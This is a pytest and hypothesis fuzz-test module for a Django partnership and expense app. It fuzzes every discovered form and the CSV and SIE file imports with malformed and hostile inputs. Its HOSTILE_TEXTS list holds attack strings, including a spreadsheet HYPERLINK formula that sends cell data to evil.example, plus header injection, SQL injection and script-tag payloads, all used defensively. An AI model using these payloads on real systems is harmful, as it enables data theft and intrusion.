"""Any input gives a form error or a valid save, never a server error, and a refused input
changes no row (hypothesis).

The forms are found, not listed: every page of the project is fetched as staff and as
coordinator, and every add page of Django admin as an admin; every ``<form method="post">``
posting back to its own page is read (its inputs, selects and textareas), and hypothesis fills
it with valid and invalid values of each kind, hostile ones among them (NUL and other control
characters, a CR before a header line, formulas, texts just under and over every maximum
length). A new form is covered by itself. Delete confirmations are left out (no input).

The CSV import is fuzzed twice: as a service (the import agrees with its preview, all or
nothing) and through its pages (upload, then confirm), where a template error would show.

Each example starts from the same world (its writes are rolled back), and compares a dump of
every row before and after it. The forms are split in shards so that the workers share them.
"""

import csv
import io
from datetime import date
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from finance.expense_import import Fate, NothingToImport, import_expenses, preview_import
from finance.models import Expense
from tests.test_scoped_access import app_routes, snapshot


def fuzz_settings(examples):
    return settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
        database=None,
    )


PAGE_FORMS = fuzz_settings(30)  # a form of the app's pages
ADMIN_FORMS = fuzz_settings(15)  # an add form of Django admin (admins are trusted, and slow)
CSV_FILES = fuzz_settings(60)
SHARDS = 4


class FormParser(HTMLParser):
    """The POST forms of a page: [{"action": str, "fields": [(name, kind, options)]}]."""

    def __init__(self):
        super().__init__()
        self.forms, self._form, self._select = [], None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and (a.get("method") or "").lower() == "post":
            self._form = {"action": a.get("action") or "", "fields": []}
            self.forms.append(self._form)
        elif self._form is None or not a.get("name"):
            return
        elif tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind not in ("submit", "button", "reset", "image"):
                self._form["fields"].append([a["name"], kind, [a.get("value", "")]])
        elif tag == "textarea":
            self._form["fields"].append([a["name"], "textarea", []])
        elif tag == "select":
            kind = "select-multiple" if "multiple" in a else "select"
            self._select = [a["name"], kind, []]
            self._form["fields"].append(self._select)
        elif tag == "option" and self._select is not None:
            self._select[2].append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def post_forms(html, url):
    parser = FormParser()
    parser.feed(html)
    return [f for f in parser.forms if f["action"] in ("", url) and f["fields"]]


# Texts an attacker would try, and texts at and over the maxima of the models' fields.
HOSTILE_TEXTS = [
    "a\x00b",
    "LivA\rX-INJECTED:1",
    "line\r\nline",
    "\x1b[2J\x07",
    '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\u2028",
    "\u202etxt.exe",
    '"; DROP TABLE x; --',
    "<script>alert(1)</script>",
]
LIMITS = [49, 50, 51, 99, 100, 101, 120, 121, 150, 151, 200, 201, 300, 301, 1000, 1001]
LIMITS += [2000, 2001, 4000, 4001, 5000, 5001, 10001, 20001]
any_text = st.one_of(
    st.text(max_size=300),
    st.sampled_from(HOSTILE_TEXTS),
    st.sampled_from(LIMITS).map(lambda n: "x" * n),
    st.integers(1, 80).map(lambda n: "a\n" * n),
)
iso_dates = st.dates(date(2018, 1, 1), date(2021, 12, 31)).map(date.isoformat)
numbers = st.one_of(
    st.integers(-(10**15), 10**15).map(str),
    st.decimals(allow_nan=True, allow_infinity=True, places=2).map(str),
    st.sampled_from(["1 000", "12,5", "1e9", "-0", "0", "NaN", "1000", "1001", "32768", "2e64"]),
)


def value_strategy(kind, options):
    if kind == "hidden":
        return st.just(options[0])
    if kind == "date":
        return st.one_of(iso_dates, any_text, st.sampled_from(["04/01/2019", "2019-02-30"]))
    if kind == "time":
        return st.one_of(st.times().map(lambda t: t.strftime("%H:%M")), any_text)
    if kind == "number":
        return st.one_of(numbers, any_text)
    if kind == "checkbox":
        return st.sampled_from([None, "on"])
    if kind == "select":
        return st.one_of(st.sampled_from(options or [""]), any_text)
    if kind == "select-multiple":
        return st.lists(st.one_of(st.sampled_from(options or [""]), any_text), max_size=3)
    if kind == "file":
        return st.binary(max_size=2000).map(
            lambda b: SimpleUploadedFile("upload.csv", b, content_type="text/csv")
        )
    return any_text  # text, textarea, email, …


def form_data(fields):
    return st.fixed_dictionaries(
        {name: value_strategy(kind, options) for name, kind, options in fields}
    ).map(lambda d: {k: v for k, v in d.items() if v is not None})


def discover_forms(world, clients):
    """[(role, url, route name, fields)] of every fuzzable POST form of the app's pages."""
    found = []
    for route in app_routes():
        if "delete" in (route.name or ""):
            continue
        url = world["objects_a"].url_for(route)
        for role, client in clients.items():
            response = client.get(url)
            if response.status_code != 200 or "text/html" not in response["Content-Type"]:
                continue
            for form in post_forms(response.content.decode(), url):
                found.append((role, url, route.name, form["fields"]))
            break
    return found


def discover_admin_forms(client):
    """[("admin", url, name, fields)] of the add form of every model of ours in Django admin."""
    found = []
    for model in admin.site._registry:
        opts = model._meta
        if opts.app_label not in django_settings.PROJECT_APPS:
            continue
        name = f"admin:{opts.app_label}_{opts.model_name}_add"
        url = reverse(name)
        response = client.get(url)
        if response.status_code != 200:
            continue
        for form in post_forms(response.content.decode(), url):
            found.append(("admin", url, name, form["fields"]))
    return found


def rows_are_valid(changed_labels):
    for label in changed_labels:
        model = apps.get_model(label)
        if model.__name__.startswith("Historical"):
            continue
        for obj in model._default_manager.all():
            obj.full_clean()


def fuzz_form(client, url, name, fields, fuzz):
    @fuzz
    @given(data=form_data(fields))
    def check(data):
        # Each example starts from the same world: its writes are rolled back at the end.
        with transaction.atomic():
            before = snapshot()
            response = client.post(url, data)
            assert response.status_code in (200, 302), (name, data, response.status_code)
            after = snapshot()
            if response.status_code == 200 and name != "finance:expense_import":
                assert after == before, (name, data)  # refused: no row changed
            rows_are_valid([label for label in after if after[label] != before.get(label)])
            transaction.set_rollback(True)

    check()


def every_form(world, staff_user, coordinator, admin_user):
    clients = {}
    for role, user in (("staff", staff_user), ("coordinator", coordinator), ("admin", admin_user)):
        clients[role] = Client()
        clients[role].force_login(user)
    admin_client = clients.pop("admin")
    forms = discover_forms(world, clients)
    # The world's report is submitted; the final report is a draft with an editable form.
    from reporting.models import Report

    draft = Report.objects.get(deadline__agreement=world["a"]["agreement"], deadline__kind="final")
    draft_url = reverse("reporting:report_edit", args=[draft.pk])
    page = clients["staff"].get(draft_url).content.decode()
    forms += [
        ("staff", draft_url, "reporting:report_edit", f["fields"])
        for f in post_forms(page, draft_url)
    ]
    forms += discover_admin_forms(admin_client)
    clients["admin"] = admin_client
    return clients, forms


@pytest.mark.django_db
@pytest.mark.parametrize("shard", range(SHARDS))
def test_every_form_refuses_or_saves_valid_data(world, staff_user, coordinator, admin_user, shard):
    clients, forms = every_form(world, staff_user, coordinator, admin_user)
    names = {name for _, _, name, _ in forms}
    # Not vacuous: the forms of the features are found.
    assert {
        "visits:session_create",
        "visits:activity_create",
        "finance:expense_create",
        "finance:payment_create",
        "finance:expense_import",
        "reporting:report_edit",
        "reporting:report_return",
        "admin:partnership_agreement_add",
        "admin:partnership_organisation_add",
        "admin:visits_venue_add",
    } <= names, names
    import time

    print(len(forms))
    for role, url, name, fields in forms[shard::SHARDS]:
        fuzz = ADMIN_FORMS if role == "admin" else PAGE_FORMS
        t = time.perf_counter()
        fuzz_form(clients[role], url, name, fields, fuzz)
        print(name, len(fields), f"{time.perf_counter() - t:.1f}s")


# --- The CSV import ---------------------------------------------------------------------------

HEADERS = st.lists(
    st.sampled_from(
        [
            "date",
            "datum",
            "budget_line",
            "konto",
            "amount",
            "belopp",
            "voucher",
            "ver",
            "description",
            "text",
            "other",
            "",
        ]
    ),
    min_size=0,
    max_size=6,
)
CELLS = {
    "date": st.one_of(iso_dates, any_text),
    "budget_line": st.one_of(st.sampled_from(["Staff", "Activities", "personnel", "x"]), any_text),
    "amount": st.one_of(numbers, st.integers(0, 10**6).map(str), any_text),
    "voucher": st.one_of(st.integers(1, 50).map(lambda n: f"V{n}"), any_text),
}
# What a file can be broken with after it is written: a row cut short, a quote left open,
# text after a closing quote, a field over the csv module's limit, stray bytes.
BREAKAGES = [
    lambda raw: raw,
    lambda raw: raw + b'2019-06-01;Staff;1;V9;"open\n',
    lambda raw: raw + b'2019-06-01;Staff;1;V9;"a"b\n',
    lambda raw: raw + b"2019-06-01;Staff\n",
    lambda raw: raw + b"2019-06-01;Staff;1;V9;" + b"x" * 131_073 + b"\n",
    lambda raw: raw + b"\x00\r\n\x1b",
    lambda raw: raw[: len(raw) // 2],
]


@st.composite
def csv_files(draw):
    header = draw(
        st.one_of(st.just(["date", "budget_line", "amount", "voucher", "description"]), HEADERS)
    )
    rows = draw(
        st.lists(
            st.lists(
                st.one_of(*(CELLS.get(h, any_text) for h in header)) if header else any_text,
                min_size=len(header),
                max_size=len(header),
            ),
            max_size=6,
        )
    )
    out = io.StringIO()
    writer = csv.writer(out, delimiter=draw(st.sampled_from([";", ","])))
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    raw = out.getvalue().encode(encoding, errors="replace")
    raw = draw(st.sampled_from(BREAKAGES))(raw)
    return draw(st.one_of(st.just(raw), st.binary(max_size=500)))


VALID_CSV = (
    b"date;budget_line;amount;voucher;description\n"
    b"2019-06-01;Staff;1 200;V-900;Rent June\n"
    b"2019-06-02;Activities;300,00;V-901;Bus tickets\n"
)


@pytest.mark.django_db
def test_the_csv_import_imports_all_or_nothing(world):
    """Any bytes: the preview never fails; the import writes every new row or nothing, and
    agrees with the preview about which."""
    agreement = world["a"]["agreement"]
    outcomes = set()

    @CSV_FILES
    @given(raw=csv_files())
    @example(raw=VALID_CSV)  # the happy path is always among the examples
    def check(raw):
        preview = preview_import(agreement, raw, "export.csv")  # never raises
        refused_by_preview = bool(preview.error) or preview.count(Fate.REJECTED) > 0
        before = snapshot()
        expenses_before = Expense.objects.count()
        with transaction.atomic():  # each example starts from the same world
            try:
                with transaction.atomic():
                    import_expenses(agreement=agreement, raw=raw, filename="export.csv")
            except (ValidationError, NothingToImport):
                assert snapshot() == before  # refused: nothing written
                outcomes.add("refused")
                return
            assert not refused_by_preview, preview.error
            assert Expense.objects.count() == expenses_before + preview.new_count
            rows_are_valid(["finance.Expense"])
            outcomes.add("imported")
            transaction.set_rollback(True)

    check()
    assert outcomes == {"refused", "imported"}, outcomes  # both paths were exercised


@pytest.mark.django_db
def test_the_csv_import_pages_answer_any_file(world, staff_client):
    """Through the pages: the upload shows a preview (never a server error, whatever the file),
    and a confirm of a file the preview refuses writes nothing."""
    agreement = world["a"]["agreement"]
    upload_url = reverse("finance:expense_import", args=[agreement.pk])
    confirm_url = reverse("finance:expense_import_confirm", args=[agreement.pk])

    @CSV_FILES
    @given(raw=csv_files())
    @example(raw=VALID_CSV)
    def check(raw):
        with transaction.atomic():
            before = snapshot()
            upload = SimpleUploadedFile("export.csv", raw, content_type="text/csv")
            response = staff_client.post(upload_url, {"file": upload})
            assert response.status_code == 200, raw
            preview = response.context["preview"]
            if preview is None:  # the form refused the upload (an empty file)
                assert snapshot() == before
                return
            response = staff_client.post(confirm_url, {"sha256": preview.sha256})
            assert response.status_code == 302, raw
            if not preview.can_import:
                assert snapshot() == before, raw
            else:
                rows_are_valid(["finance.Expense", "finance.ExpenseImport"])
            transaction.set_rollback(True)

    check()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "raw",
    [
        b"\x8d",  # undefined in Windows-1252 too: was a server error
        b"date;budget_line;amount;voucher\n2019-06-01;Staff;NaN;V1\n",  # was a server error
        b"date;budget_line;amount;voucher\n2019-06-01;Staff;Infinity;V1\n",
    ],
)
def test_found_by_hypothesis_bad_files_are_refused_with_a_message(world, staff_client, raw):
    agreement = world["a"]["agreement"]
    preview = preview_import(agreement, raw, "export.csv")
    assert preview.error or preview.count(Fate.REJECTED) == 1
    upload = SimpleUploadedFile("export.csv", raw, content_type="text/csv")
    response = staff_client.post(f"/agreements/{agreement.pk}/expenses/import/", {"file": upload})
    assert response.status_code == 200


# --- The SIE import ---------------------------------------------------------------------------

SIE_FILES = fuzz_settings(60)
SIE_LINES = [
    "#FLAGGA 0",
    "#FORMAT PC8",
    "#SIETYP 4",
    "#SIETYP 3",
    '#PROGRAM "Fortnox" 3.0',
    "#RAR 0 20190101 20191231",
    "#RAR -1 20180101 20181231",
    "#RAR 0 2019 x",
    '#KONTO 4010 "Inköp"',
    '#OBJEKT 1 "LivA" "Projekt LivA"',
    '#VER A 1 20190601 "Inköp \\"fika\\""',
    "#VER A 2 20190415",
    '#VER "" "" 20190601',
    "#VER B 1 20190231",
    "{",
    "}",
    "#TRANS 4010 {} 100.50",
    '#TRANS 4010 {1 "LivA"} -20',
    "#TRANS 1930 {} -100.50",
    "#TRANS 7010 {1} 5",
    "#TRANS 40x0 {} 1",
    "#TRANS 4010 {} 1e9",
    "#TRANS 4010 {} 99999999999999",
    '#TRANS 4010 {} 1 "" "open',
    "#RTRANS 4010 {} 1",
    "#KSUMMA 1",
    "garbage",
    "\x00\x1b",
]


@st.composite
def sie_files(draw, org_number):
    head = [
        "#FLAGGA 0",
        "#SIETYP 4",
        draw(st.sampled_from([f"#ORGNR {org_number}", "#ORGNR 556000-0001", ""])),
        "#RAR 0 20190101 20191231",
    ]
    body = draw(
        st.lists(
            st.one_of(
                st.sampled_from(SIE_LINES),
                st.builds(
                    lambda text, amount, account: f'#TRANS {account} {{}} {amount} "" "{text}"',
                    any_text.map(lambda t: t.replace('"', '\\"')),
                    numbers,
                    st.integers(1000, 8999),
                ),
            ),
            max_size=12,
        )
    )
    text = draw(st.sampled_from(["\r\n", "\n", "\r"])).join(head + body)
    raw = text.encode(draw(st.sampled_from(["cp437", "utf-8", "cp1252"])), errors="replace")
    return draw(st.one_of(st.just(raw), st.binary(max_size=500)))


def valid_sie(org_number):
    return (
        f"#FLAGGA 0\r\n#SIETYP 4\r\n#ORGNR {org_number}\r\n#RAR 0 20190101 20191231\r\n"
        '#VER A 1 20190601 "Bussbiljetter"\r\n{\r\n#TRANS 4010 {} 300.50\r\n'
        "#TRANS 1930 {} -300.50\r\n}\r\n"
    ).encode("cp437")


@pytest.fixture
def sie_world(world):
    from finance.models import SieMappingRule

    agreement = world["a"]["agreement"]
    SieMappingRule.objects.create(
        agreement=agreement,
        account_from=4000,
        account_to=7999,
        budget_line=agreement.budget_lines.first(),
    )
    return agreement, agreement.parties.get(role="idea_driven").organisation.org_number


@pytest.mark.django_db
def test_the_sie_import_imports_all_or_nothing(sie_world):
    """Any bytes: the preview never fails; the import writes its planned expenses or
    nothing, and agrees with the preview."""
    from finance.sie_import import import_sie, preview_sie

    agreement, org_number = sie_world
    outcomes = set()

    @SIE_FILES
    @given(raw=sie_files(org_number))
    @example(raw=valid_sie(org_number))
    def check(raw):
        preview = preview_sie(agreement, raw, "bok.se")  # never raises
        before = snapshot()
        expenses_before = Expense.objects.count()
        with transaction.atomic():
            try:
                with transaction.atomic():
                    import_sie(agreement=agreement, raw=raw, filename="bok.se")
            except NothingToImport:
                assert not preview.can_import
                assert snapshot() == before  # refused: nothing written
                outcomes.add("refused")
                return
            assert preview.can_import, preview.error
            assert Expense.objects.count() == expenses_before + len(preview.expenses)
            rows_are_valid(["finance.Expense", "finance.SieVoucher"])
            outcomes.add("imported")
            transaction.set_rollback(True)

    check()
    assert outcomes == {"refused", "imported"}, outcomes


@pytest.mark.django_db
def test_the_sie_import_pages_answer_any_file(sie_world, staff_client):
    agreement, org_number = sie_world
    upload_url = reverse("finance:sie_import", args=[agreement.pk])
    confirm_url = reverse("finance:sie_import_confirm", args=[agreement.pk])

    @SIE_FILES
    @given(raw=sie_files(org_number))
    @example(raw=valid_sie(org_number))
    def check(raw):
        with transaction.atomic():
            before = snapshot()
            upload = SimpleUploadedFile("bok.se", raw, content_type="application/octet-stream")
            response = staff_client.post(upload_url, {"file": upload})
            assert response.status_code == 200, raw
            preview = response.context["preview"]
            if preview is None:  # the form refused the upload (an empty file)
                assert snapshot() == before
                return
            response = staff_client.post(confirm_url, {"sha256": preview.sha256})
            assert response.status_code == 302, raw
            if not preview.can_import:
                assert snapshot() == before, raw
            else:
                rows_are_valid(["finance.Expense", "finance.SieVoucher"])
            transaction.set_rollback(True)

    check()
